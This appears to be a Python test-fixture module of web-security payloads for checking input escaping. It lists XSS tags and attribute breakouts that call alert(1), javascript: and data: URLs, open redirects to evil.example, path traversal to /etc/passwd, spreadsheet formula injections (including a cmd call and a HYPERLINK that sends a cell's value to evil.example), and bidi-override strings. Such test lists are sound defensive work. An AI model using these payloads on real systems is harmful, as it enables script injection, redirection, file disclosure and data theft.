"""Texts that become script, elements or addresses where somebody forgets to escape them. Each calls ``alert``, or makes
an element with the attribute ``data-hostile`` or the name ``hostile``."""

_RUN = "alert(1)"

ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt data-hostile>{_RUN}</ScRiPt >",
    f"<script\n>{_RUN}//<",
    f"<<script>{_RUN}//<</script>",
    f"<img src=x onerror={_RUN} data-hostile>",
    f"<img/src=x/onerror={_RUN}//data-hostile",
    f"<image src=x onerror={_RUN} data-hostile>",
    f"<svg onload={_RUN} data-hostile>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s data-hostile>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text data-hostile>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x' data-hostile></use></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN} data-hostile>",
    f"<iframe src='javascript:{_RUN}' data-hostile></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>' data-hostile></iframe>",
    f"<object data='javascript:{_RUN}' data-hostile></object>",
    f"<embed src='javascript:{_RUN}' data-hostile>",
    f"<details open ontoggle={_RUN} data-hostile>",
    f"<video><source onerror={_RUN} data-hostile></video>",
    f"<audio src=x onerror={_RUN} data-hostile>",
    f"<body onload={_RUN} data-hostile>",
    f"<input autofocus onfocus={_RUN} data-hostile>",
    f"<select autofocus onfocus={_RUN} data-hostile>",
    f"<marquee onstart={_RUN} data-hostile>",
    f"<form action='javascript:{_RUN}' data-hostile><button>x</button></form>",
    f"<link rel=stylesheet href='data:text/css,*' onload={_RUN} data-hostile>",
    f"<style data-hostile>@import 'x';</style><style onload={_RUN}></style>",
    f"<base href='javascript:{_RUN}//' data-hostile>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}' data-hostile>",
    f"<template data-hostile><img src=x onerror={_RUN}></template>",
    f"<dialog open data-hostile><img src=x onerror={_RUN}></dialog>",
    f"<a href='javascript:{_RUN}' data-hostile>x</a>",
    f"<b data-hostile style='position:fixed;inset:0' onpointerover={_RUN}>x</b>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN} data-hostile>'>",
    f"<!--><img src=x onerror={_RUN} data-hostile>-->",
    f"<![CDATA[><img src=x onerror={_RUN} data-hostile>]]>",
    f"<?xml version='1.0'?><img src=x onerror={_RUN} data-hostile>",
    f"<xss contenteditable autofocus onfocus={_RUN} tabindex=0 data-hostile>",
    f"<img name=hostile src=x onerror={_RUN}>",
)
"""Written where text stands."""

BREAKING = (
    f'"><img src=x onerror={_RUN} data-hostile>',
    f"'><img src=x onerror={_RUN} data-hostile>",
    f'" autofocus onfocus={_RUN} data-hostile x="',
    f"' autofocus onfocus={_RUN} data-hostile x='",
    f"x onmouseover={_RUN} data-hostile",
    f"` onmouseover={_RUN} data-hostile `",
    f"</title><img src=x onerror={_RUN} data-hostile>",
    f"</textarea><img src=x onerror={_RUN} data-hostile>",
    f"</style><img src=x onerror={_RUN} data-hostile>",
    f"</option></datalist></select><img src=x onerror={_RUN} data-hostile>",
    f"</template><img src=x onerror={_RUN} data-hostile>",
    f"</svg></math><img src=x onerror={_RUN} data-hostile>",
    f'-->"><svg onload={_RUN} data-hostile>',
    f"]]><img src=x onerror={_RUN} data-hostile>",
    f"&#34;&gt;&lt;img src=x onerror={_RUN} data-hostile&gt;",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f'\\"><script>{_RUN}</script>',
    f"＜script＞{_RUN}＜/script＞",
    f"\ufeff<script>{_RUN}</script>",
    f"{{{{ 7*7 }}}}{{% set x = cycler.__init__.__globals__ %}}<img src=x onerror={_RUN} data-hostile>",
    f"${{{_RUN}}}<img src=x onerror={_RUN} data-hostile>",
    f"%(name)s %s <img src=x onerror={_RUN} data-hostile>",
    f"<mark id=m1 data-hostile onclick={_RUN}>",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={_RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    f"\\x3csVg/<sVg/oNloAd={_RUN}//>\\x3e",
)
"""Written where an attribute, a title, a template stands, or where one decodes too often."""

ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f" javascript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript://example.com/%0a{_RUN}",
    f"javascript&colon;{_RUN}",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"DATA:image/svg+xml,<svg onload={_RUN}>",
    f"blob:https://example.com/{_RUN}",
    f"view-source:javascript:{_RUN}",
    f"feed:javascript:{_RUN}",
    "file:///etc/passwd",
    f"//evil.example/{_RUN}",
    f"\\\\evil.example\\{_RUN}",
    f'https://a.example/"onmouseover={_RUN} data-hostile x="',
    f"https://a.example/<img src=x onerror={_RUN} data-hostile>",
    "https://a.example;script-src *;/x.jpg",
    "https://user:pass@a.example'/x.jpg",
    "https://[::1/x.jpg",
)
"""Written where a link leads, or a picture lies."""

TEXTS = (*ELEMENTS, *BREAKING)
ALL = (*TEXTS, *ADDRESSES)

SUBSTRING_ONLY = (
    "//evil.example", "///evil.example", "/\\evil.example", "\\/evil.example", "/\t/evil.example", "/\n/evil.example",
    "https://evil.example", "https:evil.example", "//evil.example/%2f..", "/%0d%0aLocation:%20//evil.example",
    "/\r\nSet-Cookie: a=b", "javascript:alert(1)", "data:text/html,x", "evil.example", "@evil.example",
    " //evil.example", "\u2028//evil.example", "/ //evil.example",
    "/\x00/evil.example", "http:///evil.example", "///\\evil.example",
)  # fmt: skip
"""Where a page must not lead a reader to."""

PATHS = (
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/setup.cfg", "..\\..\\setup.cfg",
    "....//....//etc/passwd", "/etc/passwd", "%00", "..%00.css", "..;/setup.cfg", "%252e%252e%252fsetup.cfg", ".",
    "..", "CON", "con.css::$DATA", "a" * 5000, "../search_app/__init__.py", "..%c0%af..%c0%afetc/passwd",
    "*", "_all", "_search",
)  # fmt: skip
"""What asks for files that are nobody's business."""

FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example?\"&A1)", "\0=1+1", "\ufeff=1+1",
)  # fmt: skip
"""What a spreadsheet would reckon, or run."""

TURNING = tuple(
    f"甲{first}乙{last}丙" for first, last in ("\u202e\u202d", "\u2067\u2068", "\u202b\u202a", "\u200f\u061c")
)
"""Texts that turn about whatever follows them on a line, for none of them ends what it begins."""
